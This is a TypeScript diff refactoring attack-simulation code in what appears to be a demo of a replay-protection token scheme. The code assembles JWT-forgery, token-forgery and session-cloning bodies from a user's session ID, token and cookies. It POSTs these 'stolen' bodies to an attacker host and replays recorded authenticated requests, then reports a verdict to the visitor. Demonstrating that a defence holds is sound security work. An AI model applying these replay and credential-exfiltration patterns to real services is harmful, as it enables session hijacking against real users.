@@ -7,8 +7,8 @@ import type {
 import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
 import { joinHistory } from '@one-tick-ahead/ota/history'
 import {
-  type CallResult,
   isCode,
+  NETWORK_FAILURE_STATUS,
   readCallResult,
   type SentRequest,
   whyNoAnswer,
@@ -19,24 +19,16 @@ import type { UserInfo } from '@/lib/demo/store'
 
 /** Body of spec §7, call 6. */
 export const jwtForgeryBody = (
-  user: Pick<UserInfo, 'jsessionID' | 'token'>,
+  { jsessionID, token }: Pick<UserInfo, 'jsessionID' | 'token'>,
   url: string,
-): JwtReplayBody => ({
-  jsessionID: user.jsessionID,
-  jwt: user.token,
-  url,
-})
+): JwtReplayBody => ({ jsessionID, jwt: token, url })
 
 /** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
 export const otaForgeryBody = (
-  user: Pick<UserInfo, 'jsessionID'>,
+  { jsessionID }: Pick<UserInfo, 'jsessionID'>,
   ota: string,
   url: string,
-): Omit<OtaForgeryBody, 'requestId'> => ({
-  jsessionID: user.jsessionID,
-  ota,
-  url,
-})
+): Omit<OtaForgeryBody, 'requestId'> => ({ jsessionID, ota, url })
 
 /** Body of spec §7, call 8: everything a script in the page could steal. */
 export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'deviceCookie'> => ({
@@ -47,18 +39,30 @@ export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'devic
   url,
 })
 
-/** Null unless the value is a verdict. */
+/** How an attack ended. */
+export interface Verdict {
+  outcome: Outcome
+  /** What the target answered, or 500 where there is no answer that can be read. */
+  code: number
+  message: string
+  /** Whether the call itself failed. */
+  isError?: boolean
+}
+
+const failed = (outcome: Outcome, message: string): Verdict => ({
+  outcome,
+  code: NETWORK_FAILURE_STATUS,
+  message,
+  isError: true,
+})
+
+/** Null unless the value is an answer of the attacker host. */
 export function readVerdict(value: unknown): VerdictBody | null {
   if (typeof value !== 'object' || value === null) return null
   if (!('message' in value) || typeof value.message !== 'string') return null
   if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
   return { message: value.message, statusCode: Number(value.statusCode) }
 }
-
-/** A verdict, whatever it says; or why there is none, in words for the visitor. */
-export type AttackAnswer =
-  | { ok: true; outcome: Outcome; verdict: VerdictBody }
-  | { ok: false; outcome: Exclude<Outcome, 'in' | 'held'>; message: string }
 
 /** The attacker host's own answer when its target gave none. */
 const HTTP_BAD_GATEWAY = 502
@@ -69,14 +73,14 @@ const SILENCE = {
   unreachable: 'The attacker host could not be reached.',
 }
 
-/** Sends a stolen body to the attacker's host; a failure is an answer, never a rejection. */
+/** Sends a stolen body to the attacker host. Never rejects. */
 export async function runAttack(
   fetchFn: typeof fetch,
   endpoint: string,
   body: AttackBody,
   signal: AbortSignal,
   isOnline = true,
-): Promise<AttackAnswer> {
+): Promise<Verdict> {
   try {
     const response = await fetchFn(endpoint, {
       method: 'POST',
@@ -86,16 +90,11 @@ export async function runAttack(
       signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
     })
     const verdict = readVerdict(await response.json().catch(() => null))
-    if (verdict) {
-      const isSilent = verdict.statusCode === HTTP_BAD_GATEWAY
-      const outcome = isSilent ? 'no-answer' : outcomeOf(verdict.statusCode)
-      return { ok: true, outcome, verdict }
-    }
-    const message = 'The attacker host sent an answer that cannot be read.'
-    return { ok: false, outcome: 'no-verdict', message }
+    if (!verdict) return failed('no-verdict', 'The answer of the attacker host could not be read.')
+    const { statusCode: code, message } = verdict
+    return { outcome: code === HTTP_BAD_GATEWAY ? 'no-answer' : outcomeOf(code), code, message }
   } catch (error) {
-    const message = SILENCE[whyNoAnswer(error, isOnline)]
-    return { ok: false, outcome: 'no-answer', message }
+    return failed('no-answer', SILENCE[whyNoAnswer(error, isOnline)])
   }
 }
 
@@ -115,11 +114,6 @@ export const recordedBody = ({ url, headers }: SentRequest): AttackBody => ({
   Cookie: 'both, as recorded: the browser adds them, no script can read them',
 })
 
-const wordsOf = ({ status, code, records }: CallResult) => {
-  if (status !== 200) return `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
-  return `Attack succeeded: the recorded request was accepted again, ${records} records read.`
-}
-
 /**
  * Sends a recorded request once more: address, token, request id, send log and, by the browser
  * itself, both cookies are those of the first time. Never rejects.
@@ -129,7 +123,7 @@ export async function replay(
   { url, headers }: SentRequest,
   signal: AbortSignal,
   isOnline = true,
-): Promise<AttackAnswer> {
+): Promise<Verdict> {
   try {
     const response = await fetchFn(url, {
       headers,
@@ -137,17 +131,18 @@ export async function replay(
       cache: 'no-store',
       signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
     })
-    const result = await readCallResult(url, response)
-    if (result.noAnswer) {
-      return { ok: false, outcome: 'no-verdict', message: 'The answer could not be read.' }
+    const { status, code, records, noAnswer } = await readCallResult(url, response)
+    if (noAnswer) return failed('no-verdict', 'The answer could not be read.')
+    if (status === 200) {
+      const message = `Attack succeeded: the recorded request was accepted again, ${records} records read.`
+      return { outcome: 'in', code: status, message }
     }
-    const verdict = { statusCode: result.status, message: wordsOf(result) }
+    const message = `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
     // Refused for another reason, it says nothing of the second use.
-    const isReplay = result.status === 200 || isCode(result.code, 'ota_replayed')
-    const outcome = isReplay ? outcomeOf(result.status) : 'no-verdict'
-    return { ok: true, outcome, verdict }
+    const outcome = isCode(code, 'ota_replayed') ? outcomeOf(status) : 'no-verdict'
+    return { outcome, code: status, message }
   } catch (error) {
-    const message = `The recorded request got ${noAnswerWords[whyNoAnswer(error, isOnline)]}.`
-    return { ok: false, outcome: 'no-answer', message }
+    const why = noAnswerWords[whyNoAnswer(error, isOnline)]
+    return failed('no-answer', `The recorded request got ${why}.`)
   }
 }
